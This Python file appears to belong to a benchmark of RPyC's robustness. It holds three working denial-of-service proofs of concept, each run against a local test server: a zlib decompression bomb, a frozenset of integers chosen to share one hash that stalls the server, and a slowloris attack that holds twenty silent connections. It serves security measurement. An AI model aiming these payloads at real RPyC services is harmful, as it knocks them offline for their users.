"""What stock RPyC does in the rows about exhaustion, in processes of its own."""

from __future__ import annotations

from benchmarks.trust.controls import run_control

__all__ = ["amplification", "slowloris", "stall"]

BEGINNING = """
import os, re, socket, struct, subprocess, sys, threading, time, zlib
from pathlib import Path
import rpyc
from rpyc.core import brine

SERVER = '''
import sys, rpyc
from rpyc.utils import server
class Service(rpyc.Service):
    def exposed_add(self, a, b):
        return a + b
serving = getattr(server, sys.argv[1])(Service, hostname="127.0.0.1", port=0)
if not serving.port: serving.port = serving.listener.getsockname()[1]
print(serving.port, flush=True)
serving.start()
'''
def send(payload, packed=False):
    data = zlib.compress(payload, 9) if packed else payload
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(struct.pack("!LB", len(data), packed) + data + b"\\n")
    return sock, len(data)
def message(value):
    return b"\\x01" + brine.dump((1, (1, (2, ((1, value),)))))
def start(kind):
    global server, port
    server = subprocess.Popen([sys.executable, "-c", SERVER, kind], stdout=subprocess.PIPE)
    port = int(server.stdout.readline())
def resident(what):
    return int(re.search(what + r":\\s*(\\d+)", Path(f"/proc/{server.pid}/status").read_text())[1])
try:
"""

AMPLIFICATION = """
    start("ThreadedServer")
    before = resident("VmRSS")
    sock, size = send(bytes(60_000_000), packed=True)
    time.sleep(2)  # it says nothing when it has done with it
    grown = (resident("VmHWM") - before) * 1024
    print(f"{grown / 1e6:.0f} MB for {size:,} bytes, {grown / size:,.0f} times", flush=True)
"""

STALL = """
    start("ThreadedServer")
    conn = rpyc.connect("127.0.0.1", port)
    root = conn.root
    root.add(1, 2)
    send(message(frozenset(n * (2**61 - 1) for n in range(5_000))))
    longest, ends = 0.0, time.monotonic() + 3
    while time.monotonic() < ends:
        begun = time.monotonic()
        root.add(1, 2)
        longest = max(longest, time.monotonic() - begun)
    print(f"{longest * 1e3:,.0f} ms for 5,000 ints of one hash", flush=True)
"""

SLOWLORIS = """
    start("ThreadPoolServer")
    silent = [socket.create_connection(("127.0.0.1", port)) for _ in range(20)]
    for sock in silent: sock.sendall(b"\\0\\0")
    time.sleep(0.5)  # until each of them has a thread
    def fresh():
        rpyc.connect("127.0.0.1", port).root.add(1, 2)
        served.set()
    served = threading.Event()
    threading.Thread(target=fresh, daemon=True).start()
    done = served.wait(6)
    print(f"20 clients of a ThreadPoolServer: a fresh one is "
        f"{'served' if done else 'not served within 6 s'}", flush=True)
"""


def amplification() -> str:
    """Send a bomb."""
    return run_control(BEGINNING + AMPLIFICATION)


def stall() -> str:
    """Send keys of one hash."""
    return run_control(BEGINNING + STALL)


def slowloris() -> str:
    """Connect silent clients."""
    return run_control(BEGINNING + SLOWLORIS)
